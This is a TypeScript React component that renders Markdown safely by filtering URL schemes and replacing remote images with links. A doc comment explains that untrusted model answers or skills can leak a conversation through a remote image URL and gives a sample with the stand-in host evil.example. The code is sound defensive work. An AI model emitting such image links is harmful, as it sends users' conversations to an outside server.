import ReactMarkdown, { defaultUrlTransform } from 'react-markdown';
import remarkGfm from 'remark-gfm';

/** Only these link and image schemes survive; anything else (javascript:, data:, vbscript:) is dropped. */
const SAFE = /^(https?:|mailto:|#|\/|\.\/|\.\.\/)/i;

export function safeUrl(url: string): string {
  const cleaned = defaultUrlTransform(url);
  if (!cleaned) return '';
  return SAFE.test(cleaned) || !/^[a-z][a-z0-9+.-]*:/i.test(cleaned) ? cleaned : '';
}

/**
 * Whether an image would load from another server. Model answers and skills are untrusted: a remote
 * image URL can carry the conversation in its query (`![x](https://evil.example/?d=...)`) and the
 * browser would send it on render, so those become links instead (the CSP's img-src blocks them too).
 */
export function isRemote(url: string): boolean {
  return /^[a-z][a-z0-9+.-]*:/i.test(url) || url.startsWith('//');
}

function RemoteImage({ src, alt }: { src: string; alt: string }) {
  let host = src;
  try {
    host = new URL(src, window.location.href).host;
  } catch {
    // not a URL a browser would load anyway
  }
  return (
    <a className="remote-image" href={src} target="_blank" rel="noopener noreferrer nofollow" title={src}>
      {alt || 'image'} (image from {host}, not loaded)
    </a>
  );
}

/** Markdown rendered safely: GFM, no raw HTML (react-markdown escapes it), no dangerous URLs, no remote images. */
export function Markdown({ text }: { text: string }) {
  return (
    <div className="markdown">
      <ReactMarkdown
        remarkPlugins={[remarkGfm]}
        skipHtml
        urlTransform={safeUrl}
        components={{
          img: ({ src, alt }) => {
            if (typeof src !== 'string' || !src) return <span>{alt}</span>;
            return isRemote(src) ? <RemoteImage src={src} alt={alt ?? ''} /> : <img src={src} alt={alt ?? ''} />;
          },
          a: ({ href, children }) =>
            href ? (
              <a href={href} target="_blank" rel="noopener noreferrer nofollow">
                {children}
              </a>
            ) : (
              <span>{children}</span>
            ),
        }}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
}
